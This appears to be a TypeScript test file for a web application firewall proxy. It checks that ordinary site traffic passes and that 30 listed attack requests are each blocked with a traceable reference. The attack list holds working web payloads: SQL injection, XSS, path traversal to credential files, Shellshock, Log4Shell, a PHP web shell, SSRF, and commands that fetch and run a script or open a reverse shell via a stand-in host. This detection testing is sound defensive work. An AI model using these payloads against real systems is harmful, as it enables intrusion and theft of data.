import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { test } from 'node:test';
import { CORPUS, withoutCorpus } from '../../test/support/corpus.ts';
import {
  BROWSER,
  curl,
  ownFolder,
  startGateway,
  until,
  withoutPrograms,
} from '../../test/support/web-parts.ts';
import { visits, webSite } from '../../test/support/web-site.ts';

/** Debian's rules are older: some of the attacks are not in them. */
const skip = withoutPrograms('curl') || withoutCorpus('crs');
const REFERENCE = /^x-weir-reference: ([a-z0-9]{20})$/m;
const HOST = ['-H', 'Host: site.example'];

/** The category, where the attack is, arguments for curl behind the path. */
type Attack = readonly [category: string, path: string, ...args: string[]];

const q = encodeURIComponent;
const json = (value: unknown): string[] => [
  ...['-H', 'Content-Type: application/json', '--data-binary', JSON.stringify(value)],
];
const ATTACKS: readonly Attack[] = [
  ['sqli', `/search?q=${q("1' OR '1'='1' -- ")}`],
  ['sqli', `/garden/1?id=${q('-1 UNION SELECT username, password FROM users')}`],
  ['sqli', '/login', '--data-urlencode', "user=admin'; DROP TABLE users;--"],
  ['sqli', '/api/v1/items', ...json({ filter: { id: "1' AND SLEEP(5)#" } })],
  ['sqli', '/', '-b', `session=${q("x' UNION SELECT NULL,NULL,version()--")}`],
  ['xss', `/search?q=${q('<script>alert(document.cookie)</script>')}`],
  ['xss', '/contact', '--data-urlencode', 'message=<img src=x onerror=alert(1)>'],
  ['xss', '/', '-H', 'Referer: https://x.example/<svg/onload=alert(1)>'],
  ['xss', '/upload', '--form-string', 'title=<iframe src="javascript:alert(1)"></iframe>'],
  ['path_traversal', `/download?file=${q('../../../../etc/passwd')}`],
  ['path_traversal', '/download', '--data-urlencode', 'file=..\\..\\..\\windows\\win.ini'],
  ['lfi', '/.git/config'],
  ['lfi', `/show?page=${q('/etc/shadow')}`],
  ['lfi', '/backup/.env'],
  ['rfi', `/index.php?include=${q('http://203.0.113.7/shell.txt?')}`],
  ['rce', `/ping?host=${q('127.0.0.1; cat /etc/passwd')}`],
  ['rce', '/tools', '--data-urlencode', 'cmd=$(curl http://203.0.113.7/x.sh | bash)'],
  ['rce', '/cgi-bin/status', '-H', 'User-Agent: () { :; }; /bin/bash -c "id"'],
  ['rce', `/search?q=${q('| nc -e /bin/sh 203.0.113.7 4444')}`],
  ['php', `/index.php?x=${q("<?php system($_GET['c']); ?>")}`],
  ['php', `/index.php?page=${q('php://filter/convert.base64-encode/resource=index')}`],
  ['php', '/upload', '-F', 'file=x;filename=shell.php;type=image/png'],
  ['java', '/', '-H', `X-Api-Version: \${jndi:ldap://203.0.113.7/a}`],
  [
    'java',
    '/',
    '-H',
    "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  ],
  ['java', `/search?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x`],
  ['nodejs', `/api/run?code=${q("require('child_process').exec('id')")}`],
  ['nodejs', '/api/v1/user', ...json({ '__proto__.admin': 'constructor.prototype.admin=1' })],
  ['ssrf', `/fetch?url=${q('http://169.254.169.254/latest/meta-data/')}`],
  ['scanner', '/', '-A', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
  ['scanner', '/admin', '-A', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)'],
];

test('a site is used at paranoia level 1: nothing is blocked; 30 attacks are, each with a reference that is found', {
  skip,
  timeout: 180_000,
}, async (t) => {
  const folder = ownFolder(t);
  const site = webSite();
  await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
  t.after(() => {
    site.closeAllConnections();
    site.close();
  });
  const to = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;
  const command = ['proxy', 'reverse', '--to', to, '--listen', '127.0.0.1:0', '--crs', join(CORPUS, 'crs')];
  const weir = await startGateway(t, command, { folder });
  const text = join(folder, 'notes.txt');
  writeFileSync(text, 'Dear all,\nselect a date from the list, or drop me a line.\n');
  const picture = join(folder, 'picture.png');
  writeFileSync(picture, Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), randomBytes(60_000)]));

  await t.test('the site', async () => {
    const all = visits({ text, picture });
    assert.ok(all.length > 100, String(all.length));
    const blocked: string[] = [];
    for (const { path, args } of all) {
      const { status, body, code } = await curl('-g', ...BROWSER, ...HOST, ...args, weir.url + path);
      if (code !== 0 || ![200, 303].includes(status))
        blocked.push(`${status} ${path}: ${body.slice(0, 200)}`);
    }
    assert.deepEqual(blocked, [], weir.running.stdout);
    assert.equal(weir.running.stdout, '', 'no line for what passes');
  });

  await t.test('the attacks', async () => {
    assert.equal(ATTACKS.length, 30);
    const passed: string[] = [];
    const references = new Map<string, Attack>();
    for (const attack of ATTACKS) {
      const [category, path, ...args] = attack;
      const answer = await curl('-g', '--path-as-is', ...BROWSER, ...HOST, ...args, weir.url + path);
      const reference = REFERENCE.exec(answer.head)?.[1];
      if (answer.status !== 403 || reference === undefined) {
        passed.push(`${category} ${path} ${args.join(' ')}: ${answer.status}`);
        continue;
      }
      assert.ok(answer.body.includes(reference), 'the page carries it');
      references.set(reference, attack);
    }
    assert.deepEqual(passed, []);
    assert.equal(references.size, ATTACKS.length, 'each has its own');
    const others: string[] = [];
    for (const [reference, [category, path]] of references) {
      const found = await until(`request ${reference}`, async () => {
        const asked = await weir.ask('requests', reference);
        return asked.code === 0 && asked.stdout;
      });
      assert.match(found, /^ {2}done +deny: /m, path);
      const kinds = /^ {2}found +(.*)$/m.exec(found)?.[1]?.split(', ') ?? [];
      if (!kinds.includes(category)) others.push(`${category} ${path}: ${kinds}`);
      assert.ok(weir.running.stdout.includes(reference));
    }
    assert.deepEqual(others, []);
  });
  assert.equal(await weir.end('SIGINT'), 0, weir.running.stderr);
});
